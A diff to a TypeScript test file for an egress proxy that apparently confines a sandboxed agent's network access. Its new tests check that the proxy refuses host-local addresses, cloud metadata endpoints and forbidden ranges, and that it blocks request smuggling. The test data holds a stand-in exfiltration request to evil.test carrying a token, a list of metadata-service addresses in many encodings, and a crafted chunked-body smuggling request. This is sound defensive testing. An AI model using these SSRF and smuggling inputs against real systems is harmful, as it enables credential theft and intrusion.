@@ -11,7 +11,14 @@ import { type AddressInfo, connect, type Socket } from "node:net";
 import { tmpdir } from "node:os";
 import { join } from "node:path";
 import { afterEach, beforeEach, describe, expect, it } from "vitest";
-import { type Denial, type EgressProxy, type ResolvedAddress, startEgressProxy } from "./egress-proxy.js";
+import { hostLocalCheck } from "./allow-rules.js";
+import {
+  type Denial,
+  type EgressProxy,
+  type EgressProxyOptions,
+  type ResolvedAddress,
+  startEgressProxy,
+} from "./egress-proxy.js";
 
 interface Seen {
   method: string;
@@ -56,13 +63,30 @@ afterEach(async () => {
   await Promise.all(proxies.splice(0).map((proxy) => proxy.close()));
 });
 
-async function proxyWith(allow: string[], names: Record<string, string[]> = {}, deniedLogPath?: string) {
+/**
+ * The upstream stand-in listens on 127.0.0.1 and plays a server elsewhere: to these proxies
+ * 127.0.0.1 is not the host's own address. Every other address of this machine still is (127.0.0.2
+ * and ::1 stand for the host in the tests below).
+ */
+const standInHostLocal = (() => {
+  const real = hostLocalCheck();
+  return (address: string) => address !== "127.0.0.1" && real(address);
+})();
+
+async function proxyWith(
+  allow: string[],
+  names: Record<string, string[]> = {},
+  deniedLogPath?: string,
+  more: Partial<EgressProxyOptions> = {},
+) {
   const resolver = fakeResolver(names);
   const proxy = await startEgressProxy({
     host: "127.0.0.1",
     allow,
     resolve: resolver.resolve,
+    isHostLocal: standInHostLocal,
     ...(deniedLogPath ? { deniedLogPath } : {}),
+    ...more,
   });
   proxies.push(proxy);
   return { proxy, asked: resolver.asked };
@@ -375,11 +399,15 @@ describe("egress proxy: names and addresses", () => {
     expect(seen).toEqual([]);
   });
 
-  it("refuses an allowed name that resolves to the host itself unless a CIDR rule covers that address", async () => {
-    const { proxy, asked } = await proxyWith(["allowed.test"], { "allowed.test": ["127.0.0.1"] });
+  it("refuses an allowed name that resolves to the host itself, even when a CIDR rule covers that address", async () => {
+    const { proxy, asked } = await proxyWith(["allowed.test", "127.0.0.0/8"], {
+      "allowed.test": ["127.0.0.2"],
+    });
     const { connect: answer } = await tunnel(proxy, `allowed.test:${upstreamPort}`);
     expect(answer.status).toBe(403);
-    expect(answer.body).toContain("allowed.test resolves to 127.0.0.1");
+    expect(answer.body).toContain(
+      "allowed.test resolves to 127.0.0.2, which is an address of the host itself",
+    );
     expect(asked).toEqual(["allowed.test"]);
     expect(seen).toEqual([]);
     expect(proxy.deniedHosts()).toEqual(["allowed.test"]);
@@ -405,6 +433,7 @@ describe("egress proxy: names and addresses", () => {
     const proxy = await startEgressProxy({
       host: "127.0.0.1",
       allow: ["allowed.test", "127.0.0.1/32"],
+      isHostLocal: standInHostLocal,
       // A rebinding resolver: a checked loopback answer first, something else on any later call.
       resolve: async () =>
         calls++ === 0 ? [{ address: "127.0.0.1", family: 4 }] : [{ address: "::1", family: 6 }],
@@ -418,7 +447,7 @@ describe("egress proxy: names and addresses", () => {
 describe("egress proxy: the denial log", () => {
   it("writes one JSON line per refusal with host, port, time and reason, and nothing of paths or queries", async () => {
     const logPath = join(tmpdir(), `claude-bottle-denied-${process.pid}-${Date.now()}.log`);
-    const { proxy } = await proxyWith(["allowed.test"], { "allowed.test": ["127.0.0.1"] }, logPath);
+    const { proxy } = await proxyWith(["allowed.test"], { "allowed.test": ["127.0.0.2"] }, logPath);
     const before = Date.now();
     await raw(proxy, get("http://evil.test/exfil?token=s3cr3t-value", "evil.test"));
     await tunnel(proxy, "other.test:8443");
@@ -440,7 +469,7 @@ describe("egress proxy: the denial log", () => {
         port: 443,
         method: "CONNECT",
         reason: "host-local",
-        detail: "resolves to 127.0.0.1",
+        detail: "resolves to 127.0.0.2",
       },
       { host: "allowed.test", port: 80, method: "HTTP", reason: "malformed" },
     ]);
@@ -478,5 +507,205 @@ describe("egress proxy: lifecycle", () => {
     const again = connect(proxy.port, "127.0.0.1");
     const [error] = (await once(again, "error")) as [NodeJS.ErrnoException];
     expect(error.code).toBe("ECONNREFUSED");
+  });
+});
+
+describe("egress proxy: the host, metadata and forbidden ranges are never reachable", () => {
+  it("refuses the host's own addresses even when a CIDR rule covers them, as IP or by name", async () => {
+    const { proxy } = await proxyWith(["127.0.0.0/8", "::1/128", "allowed.test"], {
+      "allowed.test": ["127.0.0.2"],
+    });
+    for (const target of [
+      `127.0.0.2:${upstreamPort}`,
+      `[::1]:${upstreamPort}`,
+      `allowed.test:${upstreamPort}`,
+    ]) {
+      const { connect: answer } = await tunnel(proxy, target);
+      expect(answer.status, target).toBe(403);
+      expect(answer.body, target).toContain("an address of the host itself");
+    }
+    expect(seen).toEqual([]);
+  });
+
+  it("refuses cloud metadata addresses in every spelling, whatever rule covers them", async () => {
+    const { proxy, asked } = await proxyWith(["0.0.0.0/0", "::/0", "metadata.test"], {
+      "metadata.test": ["100.100.100.200"],
+    });
+    const targets = [
+      "169.254.169.254:80",
+      "[fd00:ec2::254]:80",
+      "[fd20:ce::254]:80",
+      "100.100.100.200:80",
+      "168.63.129.16:80",
+      "192.0.0.192:80",
+      "[::ffff:169.254.169.254]:80",
+      "[64:ff9b::a9fe:a9fe]:80",
+      "[2002:a9fe:a9fe::1]:80",
+      "metadata.test:80",
+    ];
+    for (const target of targets) {
+      const { connect: answer } = await tunnel(proxy, target);
+      expect(answer.status, target).toBe(403);
+      expect(answer.body, target).toContain("metadata");
+    }
+    const http = await raw(proxy, get("http://169.254.169.254/latest/meta-data/", "169.254.169.254"));
+    expect(http.status).toBe(403);
+    expect(asked).toEqual(["metadata.test"]);
+  });
+
+  it("refuses ranges the backend forbids (the engine's address pools), CIDR rule or not", async () => {
+    const { proxy } = await proxyWith(
+      ["10.0.0.0/8", "pool.test"],
+      { "pool.test": ["10.200.3.4"] },
+      undefined,
+      {
+        forbiddenRanges: ["10.200.0.0/16"],
+      },
+    );
+    for (const target of ["10.200.0.1:443", "pool.test:443", "[::ffff:10.200.9.9]:443"]) {
+      const { connect: answer } = await tunnel(proxy, target);
+      expect(answer.status, target).toBe(403);
+      expect(answer.body, target).toContain("a range this bottle may never reach");
+    }
+  });
+
+  it("judges against the interfaces as they are now: an address that appears after start-up is refused", async () => {
+    let interfaces: ReturnType<typeof import("node:os").networkInterfaces> = {};
+    const { proxy } = await proxyWith(["10.0.0.0/8"], {}, undefined, {
+      isHostLocal: undefined,
+      interfaces: () => interfaces,
+    });
+    expect((await tunnel(proxy, "127.0.0.1:9")).connect.status).toBe(403);
+    interfaces = {
+      br0: [
+        {
+          address: "10.99.0.1",
+          netmask: "255.255.0.0",
+          family: "IPv4",
+          mac: "00:00:00:00:00:00",
+          internal: false,
+          cidr: "10.99.0.1/16",
+        },
+      ],
+    };
+    await new Promise((resolve) => setTimeout(resolve, 1100));
+    const { connect: answer } = await tunnel(proxy, "10.99.0.1:9");
+    expect(answer.status).toBe(403);
+    expect(answer.body).toContain("an address of the host itself");
+  });
+});
+
+describe("egress proxy: bodies are framed, never smuggled", () => {
+  it("refuses GET, HEAD, DELETE, OPTIONS and TRACE with a chunked body, and the upstream sees nothing", async () => {
+    const { proxy } = await proxyWith(["allowed.test"], { "allowed.test": ["127.0.0.1"] });
+    const smuggled = `GET /smuggled HTTP/1.1\r\nHost: allowed.test:${upstreamPort}\r\n\r\n`;
+    const body = `${smuggled.length.toString(16)}\r\n${smuggled}\r\n0\r\n\r\n`;
+    for (const method of ["GET", "HEAD", "DELETE", "OPTIONS", "TRACE"]) {
+      const answer = await raw(
+        proxy,
+        `${method} http://allowed.test:${upstreamPort}/ HTTP/1.1\r\nHost: allowed.test:${upstreamPort}\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n${body}`,
+      );
+      expect(answer.status, method).toBe(400);
+    }
+    expect(seen).toEqual([]);
+  });
+
+  it("still relays a chunked POST, framed", async () => {
+    const { proxy } = await proxyWith(["allowed.test"], { "allowed.test": ["127.0.0.1"] });
+    const answer = await raw(
+      proxy,
+      `POST http://allowed.test:${upstreamPort}/upload HTTP/1.1\r\nHost: allowed.test:${upstreamPort}\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n5\r\nhello\r\n0\r\n\r\n`,
+    );
+    expect(answer.status).toBe(200);
+    expect(seen.map(({ method, url }) => `${method} ${url}`)).toEqual(["POST /upload"]);
+  });
+});
+
+describe("egress proxy: limits", () => {
+  it("closes a tunnel that stays idle longer than the idle timeout", async () => {
+    const { proxy } = await proxyWith(["allowed.test"], { "allowed.test": ["127.0.0.1"] }, undefined, {
+      limits: { idleTimeoutMs: 300 },
+    });
+    const socket = connect(proxy.port, "127.0.0.1");
+    socket.write(`CONNECT allowed.test:${upstreamPort} HTTP/1.1\r\nHost: x\r\n\r\n`);
+    expect(await readUntilBlankLine(socket)).toMatch(/^HTTP\/1\.1 200/);
+    const started = Date.now();
+    socket.resume();
+    await once(socket, "close");
+    expect(Date.now() - started).toBeLessThan(3000);
+  });
+
+  it("closes a connection that never sends a request", async () => {
+    const { proxy } = await proxyWith([], {}, undefined, { limits: { idleTimeoutMs: 300 } });
+    const socket = connect(proxy.port, "127.0.0.1");
+    socket.resume();
+    const started = Date.now();
+    await once(socket, "close");
+    expect(Date.now() - started).toBeLessThan(3000);
+  });
+
+  it("refuses tunnels beyond the cap with 503, logs it, and accepts again once one closes", async () => {
+    const logPath = join(tmpdir(), `claude-bottle-denied-cap-${process.pid}-${Date.now()}.log`);
+    const { proxy } = await proxyWith(["allowed.test"], { "allowed.test": ["127.0.0.1"] }, logPath, {
+      limits: { maxTunnels: 2 },
+    });
+    const open: Socket[] = [];
+    for (let i = 0; i < 2; i++) {
+      const socket = connect(proxy.port, "127.0.0.1");
+      socket.write(`CONNECT allowed.test:${upstreamPort} HTTP/1.1\r\nHost: x\r\n\r\n`);
+      expect(await readUntilBlankLine(socket)).toMatch(/^HTTP\/1\.1 200/);
+      open.push(socket);
+    }
+    const third = await tunnel(proxy, `allowed.test:${upstreamPort}`);
+    expect(third.connect.status).toBe(503);
+    const first = open.shift()!;
+    const closed = once(first, "close");
+    first.destroy();
+    await closed;
+    await new Promise((resolve) => setTimeout(resolve, 50));
+    expect((await tunnel(proxy, `allowed.test:${upstreamPort}`)).connect.status).toBe(200);
+    for (const socket of open) socket.destroy();
+    await proxy.close();
+    const lines = (await readFile(logPath, "utf8")).trim().split("\n");
+    expect(lines.map((line) => (JSON.parse(line) as Denial).reason)).toEqual(["limit"]);
+    expect(proxy.deniedHosts()).toEqual([]);
+  });
+
+  it("keeps the denial log under its size cap with one rotation", async () => {
+    const logPath = join(tmpdir(), `claude-bottle-denied-rot-${process.pid}-${Date.now()}.log`);
+    const { proxy } = await proxyWith([], {}, logPath, { limits: { deniedLogMaxBytes: 400 } });
+    for (let i = 0; i < 30; i++) await tunnel(proxy, `host-${i}.test:443`);
+    await proxy.close();
+    const current = await readFile(logPath, "utf8");
+    const older = await readFile(`${logPath}.1`, "utf8");
+    expect(Buffer.byteLength(current)).toBeLessThanOrEqual(400);
+    expect(Buffer.byteLength(older)).toBeLessThanOrEqual(400);
+    expect(current).toContain('"host":"host-29.test"');
+    expect(older).not.toContain('"host":"host-0.test"');
+    for (const line of `${older}${current}`.trim().split("\n")) expect(() => JSON.parse(line)).not.toThrow();
+  });
+
+  it("names at most maxDeniedHosts hosts and says how many more", async () => {
+    const { proxy } = await proxyWith([], {}, undefined, { limits: { maxDeniedHosts: 3 } });
+    for (const name of ["a", "b", "c", "d", "e", "a"]) await tunnel(proxy, `${name}.test:443`);
+    expect(proxy.deniedHosts()).toEqual(["a.test", "b.test", "c.test", "and 2 more"]);
+  });
+});
+
+describe("egress proxy: the denial log is never written through a link", () => {
+  it("fails to start when the log's path is a symbolic link, and leaves the link's target alone", async () => {
+    const { symlink, writeFile: write, mkdtemp, rm } = await import("node:fs/promises");
+    const dir = await mkdtemp(join(tmpdir(), "claude-bottle-denied-link-"));
+    try {
+      const target = join(dir, "somewhere-else");
+      await write(target, "not a log");
+      await symlink(target, join(dir, "denied.jsonl"));
+      await expect(
+        startEgressProxy({ host: "127.0.0.1", allow: [], deniedLogPath: join(dir, "denied.jsonl") }),
+      ).rejects.toThrow(/ELOOP|symbolic link/);
+      expect(await readFile(target, "utf8")).toBe("not a log");
+    } finally {
+      await rm(dir, { recursive: true, force: true });
+    }
   });
 });
